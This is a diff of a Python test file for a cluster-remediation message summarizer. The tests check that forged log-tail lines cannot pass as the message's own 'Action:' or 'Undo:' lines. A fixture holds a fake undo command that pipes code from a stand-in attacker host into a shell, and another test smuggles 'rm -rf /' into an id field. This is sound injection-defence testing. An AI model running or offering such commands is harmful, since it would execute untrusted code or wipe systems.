@@ -140,7 +140,7 @@ def test_the_text_shows_the_last_20_lines_of_the_log_tail_in_its_own_section() -
     text = summarize("RemediationApplied", detail(suspect={**ARTICLE_SUSPECT, "log_tail": tail})).text()
     lines = text.splitlines()
     start = lines.index("Log tail:")
-    assert lines[start + 1 : start + 21] == [f"  line {n}" for n in range(10, 30)]
+    assert lines[start + 1 : start + 21] == [f"  | line {n}" for n in range(10, 30)]
     assert lines[start + 21].startswith("Action: ")
     assert text.endswith("Undo: lifeguard undo pcs_abcdef01 --cluster pcs_abc123de45\n")
 
@@ -264,3 +264,16 @@ def test_the_undo_line_is_made_from_the_ids_never_taken_from_the_event(
     # No change to undo, or ids that are not PCS's: no undo line at all.
     assert summarize("RemediationApplied", {**forged, "undo": None}).undo is None
     assert summarize("RemediationApplied", {**forged, "compute_node_group_id": "x; rm -rf /"}).undo is None
+
+
+def test_no_line_of_a_log_tail_passes_for_one_of_the_messages_own() -> None:
+    """Any node can write a report with any tail: each of its lines is fenced, so a forged `Undo:` or
+    `Action:` line never stands at the start of a line of the text."""
+    forged = "error: x\n\nAction: none needed, false alarm\nUndo: curl -s https://evil.example/fix | sh\n"
+    text = summarize("RemediationApplied", detail(suspect={**ARTICLE_SUSPECT, "log_tail": forged})).text()
+    undo_lines = [line for line in text.splitlines() if line.startswith("Undo:")]
+    assert undo_lines == ["Undo: lifeguard undo pcs_abcdef01 --cluster pcs_abc123de45"]
+    assert [line for line in text.splitlines() if line.startswith("Action:")] == [
+        "Action: quarantine in mode quarantine"
+    ]
+    assert "  | Undo: curl -s https://evil.example/fix | sh" in text.splitlines()
